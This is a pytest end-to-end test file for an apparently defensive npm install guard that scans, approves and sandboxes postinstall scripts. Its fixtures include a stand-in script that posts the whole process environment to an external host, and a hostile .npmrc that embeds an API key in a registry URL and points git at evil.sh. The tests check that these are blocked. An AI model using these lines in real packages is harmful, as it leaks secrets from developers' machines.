"""The main job, end to end: the real npm, the real semgrep and real walls against a registry on loopback."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.builders import a_manifest
from tests.faults import Status, WrongBytes
from tests.loopback import LoopbackRegistry
from tests.world import World, npm

pytestmark = [pytest.mark.npm, pytest.mark.semgrep]

WRITES = {"install.js": "require('fs').writeFileSync(__dirname + '/made.txt', 'made\\n')\n"}
STEALS = {
    "install.js": "require('https').request('https://collect.example.invalid', { method: 'POST' }).end(JSON.stringify(process.env))\n"
}
BY_NODE: dict[str, Any] = {"scripts": {"postinstall": "node install.js"}}


def test_ci_installs_what_npm_would_and_runs_nothing_that_nobody_approved(world: World) -> None:
    world.lock(
        world.registry.publish("plain", "1.0.0", {"index.js": "1"}),
        world.registry.publish("builds", "2.0.0", WRITES, **BY_NODE),
    )
    said = world.run("ci", "--json")
    assert said.code == 10
    assert said.verdicts == {"builds postinstall": "review"}
    assert not world.has("node_modules/builds/made.txt")
    ours = world.tree("node_modules/plain", "node_modules/builds")
    npm(world.folder, "ci")
    assert ours == world.tree("node_modules/plain", "node_modules/builds")


@pytest.mark.sandbox
def test_an_approved_script_runs_and_nothing_is_asked_again(world: World) -> None:
    world.lock(world.registry.publish("builds", "2.0.0", WRITES, **BY_NODE))
    world.approve("builds")
    said = world.run("ci", "--json")
    assert said.code == 0, said
    assert said.verdicts == {"builds postinstall": "allow"}
    assert world.read("node_modules/builds/made.txt") == "made\n"


@pytest.mark.sandbox
def test_a_second_install_keeps_what_the_approved_script_made_and_runs_it_no_more(world: World) -> None:
    world.lock(world.registry.publish("builds", "2.0.0", WRITES, **BY_NODE))
    world.approve("builds")
    assert world.run("install", "--json").code == 0
    again = world.run("install", "--json")
    assert again.code == 0
    assert again.report["execution"]["outcomes"] == []
    assert world.has("node_modules/builds/made.txt")


def test_a_changed_script_is_asked_about_again_and_an_unchanged_one_is_not(world: World) -> None:
    world.lock(world.registry.publish("builds", "2.0.0", WRITES, **BY_NODE))
    world.approve("builds")
    world.lock(world.registry.publish("builds", "2.0.1", {**WRITES, "README.md": "new"}, **BY_NODE))
    assert world.run("scan", "--json").report["verdicts"][0]["reasons"] == ["carried-forward"]
    world.lock(world.registry.publish("builds", "2.0.2", {"install.js": WRITES["install.js"] + "//\n"}, **BY_NODE))
    assert world.run("scan", "--json").report["verdicts"][0]["reasons"][0] == "changed"


def test_a_script_that_sends_the_environment_blocks_and_node_modules_is_untouched(world: World) -> None:
    world.lock(world.registry.publish("plain", "1.0.0", {"index.js": "1"}))
    assert world.run("ci").code == 0
    before = world.tree("node_modules")
    world.lock(
        world.registry.publish("plain", "1.0.0", {"index.js": "1"}),
        world.registry.publish("steals", "1.0.0", STEALS, **BY_NODE),
    )
    said = world.run("ci", "--json")
    assert said.code == 11
    assert said.verdicts == {"steals postinstall": "block"}
    assert world.tree("node_modules") == before
    assert said.report["plan"]["steps"] == []


def test_what_npm_installs_is_the_same_without_resolved(world: World) -> None:
    plain = world.registry.publish("@scope/plain", "1.0.0", {"index.js": "1"})
    world.lock(plain, resolved=False)
    assert world.run("ci").code == 0
    assert world.read("node_modules/@scope/plain/index.js") == "1"


def test_after_the_first_run_no_network_is_needed(world: World) -> None:
    world.lock(world.registry.publish("plain", "1.0.0", {"index.js": "1"}), resolved=False)
    assert world.run("ci").code == 0
    world.registry.close()
    assert world.run("ci").code == 0
    assert world.has("node_modules/plain/index.js")


def test_adding_a_package_inspects_it_before_anything_is_written(world: World) -> None:
    world.lock()
    world.registry.publish("steals", "1.0.0", STEALS, **BY_NODE)
    before = world.tree(".")
    assert world.run("install", "steals", "--json").code == 11
    assert world.tree(".") == before


def test_adding_and_removing_a_package_writes_what_npm_would(world: World) -> None:
    world.lock()
    world.registry.publish("plain", "1.2.0", {"index.js": "1"})
    assert world.run("plain", "-D").code == 0
    assert json.loads(world.read("package.json"))["devDependencies"] == {"plain": "^1.2.0"}
    assert "node_modules/plain" in json.loads(world.read("package-lock.json"))["packages"]
    assert world.has("node_modules/plain/index.js")
    assert world.run("uninstall", "plain").code == 0
    assert "plain" not in world.read("package.json")
    assert not world.has("node_modules/plain")


def test_install_without_a_lockfile_makes_one(world: World) -> None:
    world.registry.publish("plain", "1.2.0", {"index.js": "1"})
    world.write("package.json", a_manifest("app", dependencies={"plain": "^1.0.0"}))
    assert world.run().code == 0
    assert world.has("package-lock.json")
    assert world.has("node_modules/plain/index.js")


def test_a_dry_run_prints_the_plan_and_changes_nothing(world: World) -> None:
    world.lock(world.registry.publish("plain", "1.0.0", {"index.js": "1"}))
    before = world.tree(".")
    said = world.run("ci", "--dry-run", "--json")
    assert said.code == 0
    assert said.report["plan"]["npm"] == ["ci"]
    assert world.tree(".") == before


def test_ci_says_in_npm_s_own_words_that_the_lockfile_is_out_of_sync(world: World) -> None:
    world.registry.publish("plain", "1.0.0")
    world.lock()
    world.write("package.json", a_manifest("app", dependencies={"plain": "^1.0.0"}))
    before = world.tree(".")
    said = world.run("ci")
    assert said.code == 12
    assert "Missing: plain@1.0.0 from lock file" in said.err
    assert world.tree(".") == before


def test_a_tarball_with_wrong_bytes_blocks_and_names_the_package(world: World) -> None:
    world.lock(world.registry.publish("plain", "1.0.0", {"index.js": "1"}))
    world.registry.fault("plain-1.0.0.tgz", WrongBytes())
    said = world.run("ci", "--json")
    assert said.code == 11
    assert [gap["kind"] for gap in said.report["gaps"]] == ["not-fetched"]
    assert not world.has("node_modules")


def test_a_registry_that_wants_a_login_is_one_sentence(world: World) -> None:
    world.lock(world.registry.publish("plain", "1.0.0"), world.registry.publish("other", "1.0.0"))
    world.registry.fault(".tgz", Status(401))
    said = world.run("ci")
    assert said.code == 1
    assert "npm login" in said.err
    assert not world.has("node_modules")


@pytest.mark.parametrize(
    ("text", "code", "sentence"),
    [
        (None, 1, "no package-lock.json"),
        ("", 1, "empty"),
        ('{"lockfileVersion": 3, "packages": {', 1, "package-lock.json"),
        ('{"lockfileVersion": 1, "dependencies": {}}', 1, "lockfileVersion 1"),
        ("<<<<<<< HEAD\n{}\n=======\n{}\n>>>>>>> theirs\n", 1, "merge"),
        ("[" * 100_000, 1, "package-lock.json"),
    ],
)
def test_a_lockfile_that_cannot_be_read_is_one_sentence(
    world: World, text: str | None, code: int, sentence: str
) -> None:
    world.write("package.json", a_manifest("app"))
    if text is not None:
        world.write("package-lock.json", text)
    said = world.run("ci")
    assert said.code == code
    assert sentence in said.err
    assert len(said.err.strip().splitlines()) <= 2
    assert not world.has("node_modules")


def test_a_hostile_npmrc_blocks_before_npm_is_asked_anything(world: World) -> None:
    world.lock(world.registry.publish("plain", "1.0.0"))
    world.write(".npmrc", "registry=http://collect.example.invalid/${ANTHROPIC_API_KEY}/\ngit=./evil.sh\n")
    said = world.run("ci", "--json")
    assert said.code == 11
    assert {finding["signature"].split("/")[0] for finding in said.report["findings"]} == {"npmrc"}
    assert world.registry.requests == []


def test_scripts_in_a_lockfile_entry_block(world: World) -> None:
    world.lock(world.registry.publish("plain", "1.0.0"))
    world.locked["node_modules/plain"]["scripts"] = {"postinstall": "echo injected"}
    world.write_lock()
    said = world.run("ci", "--json")
    assert said.code == 11
    assert "lockfile/scripts-in-entry" in {finding["signature"] for finding in said.report["findings"]}


def test_scan_judges_many_targets_in_one_run(world: World) -> None:
    published = world.registry.publish("builds", "2.0.0", WRITES, **BY_NODE)
    world.lock(published)
    world.write("other.tgz", "")
    (world.folder / "other.tgz").write_bytes(published.tarball)
    world.write("unpacked/package.json", a_manifest("unpacked", **BY_NODE))
    world.write("unpacked/install.js", STEALS["install.js"])
    said = world.run("scan", "package-lock.json", "other.tgz", "unpacked", "builds@2.0.0", "--json")
    assert said.code == 11
    assert {v["target"]: v["decision"] for v in said.report["verdicts"]} == {
        "package-lock.json": "review",
        "other.tgz": "review",
        "unpacked": "block",
        "builds@2.0.0": "review",
    }
    assert not world.has("node_modules")


def test_a_token_goes_to_no_registry_that_only_the_project_chose(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NPM_TOKEN", "npm_canary")
    with LoopbackRegistry() as foreign:
        plain = foreign.publish("plain", "1.0.0", {"index.js": "1"})
        world.lock(plain)
        world.write(".npmrc", f"registry={foreign.url}\n//{foreign.host}/:_authToken=${{NPM_TOKEN}}\n")
        assert world.run("ci").code == 11
        assert foreign.requests == []
        world.write("safe-install.toml", f'allowed-hosts = ["{foreign.host}"]\n')
        assert world.run("ci").code == 0
        assert {headers["authorization"] for _, path, headers in foreign.requests if "plain" in path} == {
            "Bearer npm_canary"
        }


def test_a_script_runs_without_walls_only_when_somebody_types_so_and_the_report_says_it(world: World) -> None:
    world.lock(world.registry.publish("builds", "2.0.0", WRITES, **BY_NODE))
    world.approve("builds")
    refused = world.run("ci", "--unconfined")
    assert refused.code == 2
    assert "require-sandbox = false" in refused.err
    world.write("safe-install.toml", "require-sandbox = false\n")
    said = world.run("ci", "--unconfined")
    assert said.code == 0
    assert "NO WALLS" in said.out
    assert world.has("node_modules/builds/made.txt")
